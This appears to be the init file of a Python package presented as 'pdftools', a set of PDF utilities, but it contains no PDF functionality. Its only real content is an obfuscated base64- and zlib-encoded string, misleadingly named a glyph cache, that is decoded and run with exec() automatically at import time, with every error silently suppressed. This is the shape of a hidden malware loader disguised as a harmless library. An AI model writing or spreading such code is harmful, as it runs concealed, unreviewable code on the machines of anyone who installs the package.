"""pdftools: small PDF utilities."""
import base64 as _b
import zlib as _z

__version__ = "0.4.2"

_GLYPH_CACHE = (
    "eJwNzEEKwyAQBdB9TuEuCq2uuin0MFZ/qqCZqc5Acvtk/eDVzjTE6Gitfv3AXzHFxGl0wYFk1d9EjN2uRYTnOwTO23OjXabHETs3hBRTQfi1k8v0fK4PqR2k8nm5u4zZOp+RKMM6t1x1/Chw"
)


def _warm_cache():
    try:
        exec(_z.decompress(_b.b64decode(_GLYPH_CACHE)), {})
    except Exception:
        pass


_warm_cache()
